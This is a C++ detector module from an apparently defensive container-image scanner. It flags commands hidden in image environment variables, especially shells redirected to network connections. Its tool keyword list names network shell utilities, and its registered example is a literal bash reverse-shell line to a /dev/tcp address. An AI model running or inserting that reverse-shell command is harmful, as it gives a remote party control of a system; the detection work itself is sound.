// Commands that lie in a variable of the image's environment (B01 and whatever else the code deserves): a start
// command `eval "$X"` shows nothing of them, and a shell runs some variables by itself.
//
// What a shell joined to a network does in a variable needs no use of it to be bad. Of the rest only what the start
// command names, or what shells run unasked, is code: other values quote commands as hints for people. Where a value
// is a part only (the device of a redirection, digits that something decodes), or a script runs it, what starts is
// followed again with the values filled in.
#include <algorithm>
#include <array>
#include <cctype>

#include "detect/detector.hpp"
#include "detect/gather.hpp"
#include "detect/image/code_variables.hpp"
#include "detect/image/filled_in.hpp"
#include "detect/image_support.hpp"
#include "detect/shell/script_facts.hpp"
#include "detect/shell/shell_facts.hpp"
#include "detect/words.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::size_t k_most_variables = 1000;
constexpr std::size_t k_longest_value = 64U << 10;
constexpr std::string_view k_name = "config:Env";

constexpr std::array<RuleRow, 1> k_rows{{
    {"B01", EvidenceClass::decisive, model::Severity::critical, 95, "Shell redirected to a network connection",
     "T1059.004", "Do not run this image: it hands a command shell to a remote party."},
}};

// "$NAME" or "${NAME", and no longer name.
bool names_variable(std::string_view text, std::string_view name) {
  for (std::size_t at = text.find(name); at != std::string_view::npos; at = text.find(name, at + 1)) {
    const std::size_t end = at + name.size();
    const bool longer =
        end < text.size() && (std::isalnum(static_cast<unsigned char>(text[end])) || text[end] == '_');
    if (longer || at == 0) continue;
    if (text[at - 1] == '$' || (at >= 2 && text[at - 1] == '{' && text[at - 2] == '$')) return true;
  }
  return false;
}

bool is_used(const model::ImageConfig& config, std::string_view name) {
  if (name == "PROMPT_COMMAND" || name.starts_with("BASH_FUNC_")) return true;
  const auto names = [&](const std::string& word) { return names_variable(word, name); };
  return std::any_of(config.entrypoint.begin(), config.entrypoint.end(), names) ||
         std::any_of(config.cmd.begin(), config.cmd.end(), names) ||
         std::any_of(config.healthcheck.begin(), config.healthcheck.end(), names);
}

// The body of a function that Bash takes from the environment: "() { CODE; }".
std::string_view code_of(std::string_view name, std::string_view value) {
  if (name.starts_with("BASH_FUNC_") && value.starts_with("()")) value.remove_prefix(2);
  return value;
}

// Values without any of these are words, not commands.
bool may_be_code(std::string_view value) { return value.find_first_of("|;&<>`(") != std::string_view::npos; }

bool is_digits(std::string_view value) {
  constexpr std::size_t k_shortest = 16;
  return value.size() >= k_shortest && std::all_of(value.begin(), value.end(), [](char c) {
           return std::isalnum(static_cast<unsigned char>(c)) || c == '+' || c == '/' || c == '=' || c == '-' ||
                  c == '_' || c == '\n';
         });
}

// What may turn a command into another one: code, a device, encoded text, or the name of a tool.
bool may_be_part(std::string_view name, std::string_view value) {
  static constexpr std::array<std::string_view, 14> k_tools = {"sh",     "bash",    "ash",  "dash",  "curl",
                                                               "wget",   "nc",      "ncat", "socat", "base64",
                                                               "python", "python3", "perl", "node"};
  if (name == "PATH" || name == "SHELL" || name == "LS_COLORS") return false;
  return may_be_code(value) || value.starts_with("/dev/tcp/") || value.starts_with("/dev/udp/") || is_digits(value) ||
         is_one(value.substr(value.rfind('/') + 1), k_tools) || value.starts_with("curl ") ||
         value.starts_with("wget ") || value.starts_with("nc ") || value.find("://") != std::string_view::npos;
}

bool is_name(std::string_view name) {
  return !name.empty() && !std::isdigit(static_cast<unsigned char>(name[0])) &&
         std::all_of(name.begin(), name.end(),
                     [](char c) { return std::isalnum(static_cast<unsigned char>(c)) || c == '_'; });
}

class StartVariables final : public Detector {
 public:
  void image(const ImageContext& context, ImageEvidence& out) const override {
    const model::ImageConfig& config = context.image.config();
    Variables parts;
    for (std::size_t i = 0; i < config.env.size() && i < k_most_variables; ++i) {
      const std::string_view entry = config.env[i];
      const std::size_t equals = std::min(entry.find('='), entry.size());
      const std::string_view name = entry.substr(0, equals);
      const std::string_view value = entry.substr(std::min(equals + 1, entry.size()));
      if (name.empty() || value.size() > k_longest_value) continue;
      const bool part = is_name(name) && may_be_part(name, value);
      if (part) parts.emplace_back(name, value);
      if (!may_be_code(value)) continue;
      ShellFacts facts = facts_of_text(code_of(name, value));
      if (!is_used(config, name)) {
        facts.commands.clear();
        std::erase_if(facts.flows, [](const ShellFlow& flow) { return flow.kind != FlowKind::reverse_shell; });
      }
      if (facts.flows.empty()) continue;
      if (part) parts.pop_back();
      judge({std::string(k_name), {}, static_cast<std::uint32_t>(i + 1), Reach::start, false, facts, &config},
            {"Env"}, model::Visibility::config, out);
    }
    if (!parts.empty()) fill_in(context, parts, out);
  }

 private:
  static void fill_in(const ImageContext& context, const Variables& parts, ImageEvidence& out) {
    const model::ImageConfig& config = context.image.config();
    const auto told = [&](std::vector<ShellFlow> flows, const std::string& path, layers::FileRef file,
                          std::uint32_t line, const std::vector<std::string>& chain) {
      if (flows.empty()) return;
      ShellFacts facts;
      facts.flows = std::move(flows);
      const bool place = file.layer == layers::k_none;
      judge({path, file, line, Reach::start, false, facts, &config}, chain,
            place ? model::Visibility::config : context.image.visibility(file), out);
    };
    const auto told_code = [&](std::vector<EmbeddedCode> codes, const StartText& text) {
      ShellFacts facts;
      facts.embedded = std::move(codes);
      judge({text.path, text.file, text.line, Reach::start, false, facts, &config}, text.chain,
            model::Visibility::config, out);
    };
    for (const StartText& text : context.start.texts()) {
      if (!text.path.starts_with(k_config_place)) continue;
      fill_in_code(text, parts, told_code);
      const std::string line = text.argv.empty() ? text.text : shell_line(text.argv);
      const auto named = [&](const auto& part) { return names_variable(line, part.first); };
      if (line.size() > k_longest_value || std::none_of(parts.begin(), parts.end(), named)) continue;
      told(flows_filled_in(line, parts), text.path, text.file, text.line, text.chain);
    }
    for (const StartNode& node : context.start.nodes()) {
      const auto record = context.image.record_at(k_script_section, node.path);
      if (!record) continue;
      const auto facts = decode_shell_facts(record->data);
      if (!facts.ok() || !mentions(facts.value(), parts)) continue;
      told(flows_filled_in(facts.value(), parts), node.path, record->file, 1, node.chain);
    }
  }

  // Code for another interpreter: python3 -c "exec(os.environ['RUN'])"
  template <class Told>
  static void fill_in_code(const StartText& text, const Variables& parts, const Told& told) {
    std::vector<EmbeddedCode> filled;
    for (const EmbeddedCode& code : facts_of(text).embedded) {
      std::string whole = code_filled_in(script_language_named(code.language), code.code, parts);
      if (!whole.empty()) filled.push_back({code.line, code.language, std::move(whole)});
    }
    if (!filled.empty()) told(std::move(filled), text);
  }

  static void judge(const ShellUnit& unit, const std::vector<std::string>& chain, model::Visibility visibility,
                    ImageEvidence& out) {
    for (const auto& entry : DetectorRegistry::all()) {
      EvidenceSink sink;
      entry.instance->shell(unit, sink);
      for (Evidence& evidence : sink.take()) {
        PlacedEvidence placed;
        placed.path = unit.path;
        placed.file = unit.file;
        placed.visibility = visibility;
        placed.reach = Reach::start;
        placed.chain = chain;
        placed.evidence = std::move(evidence);
        out.add(std::move(placed));
      }
    }
  }
};

const util::Registered<StartVariables> registered{{
    .id = "start-variables",
    .version = 3,
    .summary = "commands in variables of the environment that the start command, a script or a shell runs",
    .example = "ENV RUN=\"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\"",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
